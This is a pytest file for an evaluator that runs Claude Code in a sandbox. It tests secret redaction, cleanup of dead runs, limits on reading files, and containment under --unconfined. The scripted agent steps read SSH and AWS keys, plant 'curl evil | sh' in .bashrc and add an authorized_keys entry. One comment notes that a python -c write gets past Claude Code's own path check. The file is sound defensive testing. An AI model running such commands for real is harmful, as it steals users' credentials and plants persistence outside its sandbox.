        for r in sc["runs"]
    )


@needs_claude
def test_a_secret_the_run_writes_into_a_file_is_masked_in_the_artifacts(sandbox: Path):
    skill, evals = task_skill(sandbox)
    artifacts = sandbox / "work" / "artifacts"
    with ScriptedAnthropic(
        responder=TaskModel(contents=[f"ALPHA BETA key={TEST_API_KEY}\n"])
    ) as api:
        done = run_evaluator(
            sandbox,
            api,
            "--skill",
            skill,
            "--tests",
            evals,
            "--allow-tools",
            "Write",
            "--artifacts",
            artifacts,
            "--runs",
            "1",
            "-o",
            sandbox / "secret.json",
        )
    assert done.returncode == 0, done.stdout + done.stderr
    kept = (artifacts / "eval-1" / "with_skill" / "run-1" / "report.txt").read_text()
    assert TEST_API_KEY not in kept and "key=[REDACTED]" in kept
    [entry] = json.loads(
        (artifacts / "eval-1" / "with_skill" / "run-1" / "manifest.json").read_text()
    )["files"]
    assert (
        entry["redacted"] is True and entry["sha256"] == hashlib.sha256(kept.encode()).hexdigest()
    )
    assert TEST_API_KEY not in (sandbox / "secret.json").read_text()


def test_what_the_sandbox_leaves_and_how_it_fails_are_read_right(tmp_path: Path):
    # a run killed mid-command leaves the sandbox's empty mount points in the project
    project = tmp_path / "project"
    for name in (".bashrc", ".mcp.json", ".zshrc", ".gitconfig"):
        write(project / name, "")
    write(project / ".profile", "export A=1\n")  # not empty: the run wrote it
    write(project / "report.txt", "ALPHA\n")
    found = collect_artifacts(project, {}, None, Redactor())
    assert sorted(a.path for a in found) == [".profile", "report.txt"]
    # an input that would be the project's own settings never reaches a run
    with pytest.raises(OSError, match="may not be named .claude"):
        prepare_project(tmp_path / "p2", [], TaskSetup(files=[tmp_path / ".claude"]))
    # error_during_execution says why in `errors`, not `result`
    reason = "Sandbox required but unavailable: bubblewrap (bwrap) not installed"
    events = [
        {
            "type": "result",
            "subtype": "error_during_execution",
            "is_error": True,
            "result": None,
            "errors": [reason],
        }
    ]
    record = detect_activation(events, [], "q")
    assert record.error == f"claude reported an error (error_during_execution): {reason}"
    # a sandbox that could not make its namespaces fails every Bash call: the run is an error
    events = [
        {
            "type": "assistant",
            "message": {"content": [{"type": "tool_use", "id": "t1", "name": "Bash", "input": {}}]},
        },
        {
            "type": "user",
            "message": {
                "content": [
                    {
                        "type": "tool_result",
                        "tool_use_id": "t1",
                        "is_error": True,
                        "content": "Exit code 1\nbwrap: Creating new namespace failed",
                    }
                ]
            },
        },
        {"type": "result", "subtype": "success", "is_error": False, "result": "done"},
    ]
    record = detect_activation(events, [], "q")
    assert record.error.startswith("Claude Code's sandbox did not start: Exit code 1 bwrap:")
    assert record.refused_tools == ["Bash: Exit code 1 bwrap: Creating new namespace failed"]


@needs_claude
def test_folders_of_dead_runs_are_removed_on_the_next_start(sandbox: Path):
    """After kill -9, /tmp/skill-eval-* folders (Claude Code's session files, with the prompts)
    stayed forever. The next start removes those whose evaluator is gone, never a live one's."""
    dead = subprocess.Popen(["true"])
    dead.wait()
    tmp = sandbox / "tmp"
    folders = {name: tmp / f"skill-eval-{name}" for name in ("dead", "live", "unowned")}
    for folder in folders.values():
        write(folder / "project" / "prompt.txt", "a prompt\n")
    write(folders["dead"] / "owner", f"{dead.pid} \n")
    write(folders["live"] / "owner", f"{os.getpid()} {process_start_time(os.getpid())}\n")
    trigger = write(
        sandbox / "t.md",
        f"---\nname: t\ntype: trigger\nskill: {SKILL_NAME}\n---\n\n# Positive Triggers\n\n- hi\n",
    )
    with ScriptedAnthropic(responder=lambda body: reply(text("ok"))) as api:
        # a process of its own: this one's pid owns the live folder
        run_evaluator(
            sandbox, api, "--skill", SKILL, "--trigger", trigger, "--runs", "1", process=True
        )
    assert not folders["dead"].exists()
    assert folders["live"].exists() and folders["unowned"].exists()


# ----------------------------------------------------------------------------- the user's secrets (issue 38, item 2)
def outputs_text(*places: Path) -> str:
    """Every file under these places (outputs, --artifacts), as text."""
    texts = []
    for place in places:
        files = [place] if place.is_file() else sorted(p for p in place.rglob("*") if p.is_file())
        texts += [p.read_text(encoding="utf-8", errors="replace") for p in files]
    return "\n".join(texts)


@needs_claude
def test_a_task_run_cannot_read_the_users_keys_and_allow_read_opens_what_a_task_needs(
    sandbox: Path,
):
    """Bash in a sandboxed task run read a private key outside its project (`cat ~/.ssh/id_rsa`),
    and the whole key landed in the results JSON and in --artifacts. The user's real home (HOME
    here: the evaluator's own) is hidden from Bash now; --allow-read PATH opens what a task needs."""
    skill, evals = task_skill(sandbox)
    home = sandbox / "home"
    material = f"KEYMATERIAL{os.getpid()}x{time.time_ns()}"  # no shape the redactor knows
    key = write(
        home / ".ssh" / "id_ed25519",
        f"-----BEGIN OPENSSH PRIVATE KEY-----\n{material}\n-----END OPENSSH PRIVATE KEY-----\n",
    )
    aws = write(home / ".aws" / "credentials", f"[default]\nsecret = {material}AWS\n")
    shared = write(home / "datasets" / "shared.csv", "SHARED-ROWS\n")
    model = StepsModel(
        bash(f"cat {key}; cat {key} > report.txt"),
        bash(f"cp {aws} aws.txt; ls -a {home}"),
        ("Read", {"file_path": str(key)}),
        bash(f"cat {shared} > shared.txt; echo ALPHA BETA >> report.txt"),
    )
    artifacts = sandbox / "work" / "artifacts"
    with ScriptedAnthropic(responder=model) as api:
        denied = run_evaluator(
            sandbox,
            api,
            "--skill",
            skill,
            "--tests",
            evals,
            "--allow-tools",
            "Bash",
            "--artifacts",
            artifacts,
            "--runs",
            "1",
            "-o",
            sandbox / "keys.json",
            "--report",
            sandbox / "keys.md",
            "--html",
            sandbox / "keys.html",
        )
        said = [json.dumps(r["content"]) for r in results_of(task_requests(api))[1:]]
        sent = json.dumps(task_requests(api))
        allowed = run_evaluator(
            sandbox,
            api,
            "--skill",
            skill,
            "--tests",
            evals,
            "--allow-tools",
            "Bash",
            "--allow-read",
            shared.parent,
            "--runs",
            "1",
            "-o",
            sandbox / "shared.json",
        )
    assert material not in sent, "the key reached the model"
    assert denied.returncode == 0, denied.stdout + denied.stderr
    assert "No such file or directory" in said[0] and "No such file or directory" in said[1]
    assert "datasets" not in said[1], "the home's contents are hidden (an empty folder)"
    assert "Permission to use Read has been denied" in said[2]
    assert "No such file or directory" in said[3], "outside --allow-read, data is hidden too"
    everything = outputs_text(sandbox / "keys.json", sandbox / "keys.md", sandbox / "keys.html")
    everything += outputs_text(artifacts) + denied.stdout + denied.stderr
    assert material not in everything
    [record] = json.loads((sandbox / "keys.json").read_text())["results"]
    assert "report.txt" in [a["path"] for a in record["artifacts"]]

    assert allowed.returncode == 0, allowed.stdout + allowed.stderr
    [record] = json.loads((sandbox / "shared.json").read_text())["results"]
    assert "SHARED-ROWS" in json.dumps(record["tool_calls"]) or any(
        a["path"] == "shared.txt" and a["size"] == len("SHARED-ROWS\n") for a in record["artifacts"]
    )
    assert material not in (sandbox / "shared.json").read_text() + allowed.stdout


def test_what_the_sandbox_hides_from_bash_and_what_allow_read_opens(
    cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    """The real home is denied as a whole; the run's own HOME and --allow-read paths inside it are
    opened again (a TMPDIR inside the home); a path that holds the runs' temporary folder would
    make the project read-only in the sandbox: refused with one line."""
    user = tmp_path / "user"
    (user / "tmp").mkdir(parents=True)
    (user / "data").mkdir()
    monkeypatch.setenv("HOME", str(user))
    monkeypatch.setenv("TMPDIR", str(user / "tmp"))
    monkeypatch.setattr(tempfile, "tempdir", None)
    run_home = user / "tmp" / "skill-eval-x" / "home"
    settings = sandbox_settings((str(user / "data"),), run_home)["sandbox"]["filesystem"]
    assert "/" + str(user) in settings["denyRead"]
    assert set(settings["allowRead"]) == {"/" + str(run_home), "/" + str(user / "data")}
    assert "/" not in settings["denyRead"] and "//" not in settings["denyRead"]
    # a path outside every denied folder needs no rule; one holding the home lifts the denial
    outside = sandbox_settings((str(tmp_path / "elsewhere"),), None)["sandbox"]["filesystem"]
    assert "/" + str(tmp_path / "elsewhere") not in outside.get("allowRead", [])
    whole = sandbox_settings((str(tmp_path),), None)["sandbox"]["filesystem"]
    assert "/" + str(user) not in whole["denyRead"]
    assert "holds the runs' temporary folder" in (allow_read_problem((str(user / "tmp"),)) or "")
    assert allow_read_problem((str(user),)) is None  # the whole home: nothing is hidden
    assert allow_read_problem((str(user / "data"),)) is None
    result = cli(
        "--skill",
        str(SKILL),
        "--tests",
        str(evals_file(tmp_path / SKILL_NAME)),
        "--allow-read",
        str(tmp_path / "no-such-folder"),
    )
    assert (
        result.exit_code == 2 and "--allow-read" in result.output and "not found" in result.output
    )
    assert len(result.output.strip().splitlines()) == 1, result.output


# ----------------------------------------------------------------------------- bounds on what a run leaves (issue 38, item 5)
BIG = 40 * 1024**3  # `truncate -s 40G`


@needs_claude
def test_a_40_gb_sparse_file_costs_seconds_and_is_reported_not_read(sandbox: Path):
    """`truncate -s 40G big.txt` in a task run took the run from 2 s to 113 s, all of it hashing
    zeros (12 hours for 16 TiB). A sparse or huge file is listed by its size, never read."""
    skill, evals = task_skill(sandbox)
    artifacts = sandbox / "work" / "artifacts"
    model = StepsModel(bash("truncate -s 40G big.txt && echo ALPHA BETA > report.txt"))
    with ScriptedAnthropic(responder=model) as api:
        started = time.monotonic()
        done = run_evaluator(
            sandbox,
            api,
            "--skill",
            skill,
            "--tests",
            evals,
            "--allow-tools",
            "Bash",
            "--artifacts",
            artifacts,
            "--runs",
            "1",
            "-o",
            sandbox / "big.json",
        )
        took = time.monotonic() - started
    assert done.returncode == 0, done.stdout + done.stderr
    assert took < 60, f"the run took {took:.0f} s"
    [record] = json.loads((sandbox / "big.json").read_text())["results"]
    big = next(a for a in record["artifacts"] if a["path"] == "big.txt")
    assert big["size"] == BIG and big["sha256"] is None and big["copied"] is False
    assert big["not_read"].startswith("sparse"), big
    report = next(a for a in record["artifacts"] if a["path"] == "report.txt")
    assert report["not_read"] is None and report["copied"] is True and report["sha256"]
    kept = artifacts / "eval-1" / "with_skill" / "run-1"
    assert not (kept / "big.txt").exists() and (kept / "report.txt").exists()
    manifest = json.loads((kept / "manifest.json").read_text())["files"]
    assert {f["path"]: f["not_read"] for f in manifest}["big.txt"].startswith("sparse")


def open_by(pid: int, name: str) -> bool:
    """Whether the process holds a file of this name open."""
    try:
        links = [os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")]
    except OSError:
        return False
    return any(link.endswith(os.sep + name) for link in links)


# The evaluator as a child whose limits are lifted, so that it reads the whole 40 GB file: the
# phase lasts long enough for a signal to arrive in it.
UNBOUNDED_EVALUATOR = """
import runpy, sys
import test_constants as C
C.ARTIFACT_MAX_HASH_BYTES = C.ARTIFACT_MAX_READ_BYTES = C.ARTIFACT_SPARSE_MIN_BYTES = 1 << 60
C.ARTIFACT_READ_SECONDS = 3600.0
sys.argv = [sys.argv[1], *sys.argv[2:]]
runpy.run_path(sys.argv[0], run_name="__main__")
"""


@needs_claude
def test_sigterm_while_a_run_s_files_are_read_keeps_the_results_and_removes_the_run_folder(
    sandbox: Path,
):
    """SIGTERM while the evaluator hashed a 40 GB sparse file left no results and a 41 GB
    temporary folder: the hashing went on past the signal until the process was ended at once."""
    skill, evals = task_skill(sandbox)
    model = StepsModel(bash("truncate -s 40G big.txt && echo ALPHA BETA > report.txt"))
    out = sandbox / "stopped.json"
    with ScriptedAnthropic(responder=model) as api:
        env = {
            "PATH": os.environ["PATH"],
            "HOME": str(sandbox / "home"),
            "TMPDIR": str(sandbox / "tmp"),
            "ANTHROPIC_API_KEY": TEST_API_KEY,
            "ANTHROPIC_BASE_URL": api.url,
            "PYTHONPATH": str(ROOT),
        }
        process = subprocess.Popen(
            [
                sys.executable,
                "-c",
                UNBOUNDED_EVALUATOR,
                str(ROOT / "evaluator.py"),
                "--claude-bin",
                CLAUDE,
                "--skill",
                str(skill),
                "--tests",
                str(evals),
                "--allow-tools",
                "Bash",
                "--runs",
                "1",
                "-o",
                str(out),
            ],
            cwd=sandbox / "work",
            env=env,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            stdin=subprocess.DEVNULL,
        )
        try:
            deadline = time.monotonic() + 120
            while not open_by(process.pid, "big.txt"):
                assert process.poll() is None, process.communicate()
                assert time.monotonic() < deadline, "the evaluator never read big.txt"
                time.sleep(0.02)
            stopping = time.monotonic()
            process.send_signal(signal.SIGTERM)
            stdout, stderr = process.communicate(timeout=60)
            took = time.monotonic() - stopping
        finally:
            if process.poll() is None:
                process.kill()
                process.wait()
    assert process.returncode == 143, stdout + stderr
    assert "stopped at once" not in stderr and "Traceback" not in stdout + stderr, stderr
    assert took < 8, f"the evaluator took {took:.1f} s to stop"
    document = json.loads(out.read_text())
    assert document["metadata"]["interrupted"] is True
    assert list((sandbox / "tmp").glob("skill-eval-*")) == [], "the run's folder is left"


def test_a_run_s_files_are_read_within_their_budgets(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    """Per file, per run and per phase: a file past a budget is listed (size, why), not read."""
    project = tmp_path / "project"
    write(project / "a.txt", "a" * 1000)
    write(project / "b.txt", "b" * 1000)
    write(project / "c.txt", "c" * 3000)
    with open(project / "holes.bin", "wb") as handle:  # sparse: a byte at the end of 64 MB
        handle.seek(64 * 1024 * 1024)
        handle.write(b"x")
    monkeypatch.setattr(C, "ARTIFACT_MAX_HASH_BYTES", 2000)
    monkeypatch.setattr(C, "ARTIFACT_MAX_READ_BYTES", 1500)
    found = {a.path: a for a in collect_artifacts(project, {}, tmp_path / "kept", Redactor())}
    assert found["a.txt"].not_read is None and found["a.txt"].copied
    assert found["b.txt"].not_read.startswith("over the run's read budget")
    assert found["c.txt"].not_read.startswith("over the per-file limit")
    assert found["holes.bin"].not_read.startswith("sparse")
    assert {a.sha256 for p, a in found.items() if p != "a.txt"} == {None}
    assert sorted(p.name for p in (tmp_path / "kept").iterdir()) == ["a.txt", "manifest.json"]
    # the phase's time: spent before it starts, nothing is read
    monkeypatch.setattr(C, "ARTIFACT_READ_SECONDS", 0.0)
    late = collect_artifacts(project, {}, None, Redactor())
    assert {a.path: a.not_read.split(":")[0] for a in late} == {
        "a.txt": "the phase's time budget is spent",
        "b.txt": "the phase's time budget is spent",
        "c.txt": "over the per-file limit",
        "holes.bin": "sparse",
    }
    # an input file the run did not touch, too large to hash, is not reported as changed
    monkeypatch.setattr(C, "ARTIFACT_READ_SECONDS", 30.0)
    (tmp_path / "p2").mkdir()
    before = prepare_project(tmp_path / "p2", [], TaskSetup(files=[project / "c.txt"]))
    assert collect_artifacts(tmp_path / "p2", before, None, Redactor()) == []
    (tmp_path / "p2" / "c.txt").write_text("d" * 3001)
    [changed] = collect_artifacts(tmp_path / "p2", before, None, Redactor())
    assert changed.status == "changed" and changed.not_read.startswith("over the per-file limit")


# ----------------------------------------------------------------------------- --unconfined, said and watched (issue 38, item 8)
@needs_claude
def test_unconfined_is_said_before_any_run_and_its_writes_outside_fail_it(sandbox: Path):
    """--unconfined warned only after the runs, and `isolation.ok` stayed true for what a run
    wrote where nobody looked (your home's dotfiles, the temporary folder). Now one warning line
    comes before anything runs, and those places are watched when Bash runs as you."""
    skill, evals = task_skill(sandbox)
    home, tmp = sandbox / "home", sandbox / "tmp"
    bashrc = write(home / ".bashrc", "# the user's own\n")
    # what Claude Code's own check of a command's paths does not see (it refuses `echo >> ~/x`)
    writes = (
        f"open('{bashrc}', 'a').write('curl evil | sh');"
        f"open('{tmp}/dropped.txt', 'w').write('x');"
        f"__import__('os').makedirs('{home}/.ssh');"
        f"open('{home}/.ssh/authorized_keys', 'a').write('ssh-ed25519 AAAA')"
    )
    model = StepsModel(bash(f'python3 -c "{writes}"; echo ALPHA BETA > report.txt'))
    with ScriptedAnthropic(responder=model) as api:
        args = ["--skill", skill, "--tests", evals, "--allow-tools", "Bash", "--unconfined"]
        dry = run_evaluator(sandbox, api, *args, "--dry-run")
        assert api.requests == []
        done = run_evaluator(sandbox, api, *args, "--runs", "1", "-o", sandbox / "u.json")
    for run in (dry, done):
        warned = [line for line in run.stdout.splitlines() if "--unconfined" in line]
        assert warned and warned[0].startswith("warning: --unconfined:"), run.stdout
        assert "Claude Code's sandbox could start here" in warned[0], warned[0]
    lines = done.stdout.splitlines()
    first = next(i for i, line in enumerate(lines) if line.startswith("warning: --unconfined:"))
    started = next(i for i, line in enumerate(lines) if "run(s) of 1 skill(s)" in line)
    assert first < started, done.stdout
    assert done.returncode == 1, done.stdout + done.stderr
    document = json.loads((sandbox / "u.json").read_text())
    isolation = document["isolation"]
    assert isolation["ok"] is False and isolation["unconfined"] is True, isolation
    written = set(isolation["outside_writes"])
    assert {
        str(bashrc),
        str(tmp / "dropped.txt"),
        str(home / ".ssh" / "authorized_keys"),
    } <= written
    assert not any("skill-eval-" in p for p in written), "the runs' own folders are not outside"
    [record] = document["results"]
    assert record["error"].startswith("wrote outside its temporary project: ")
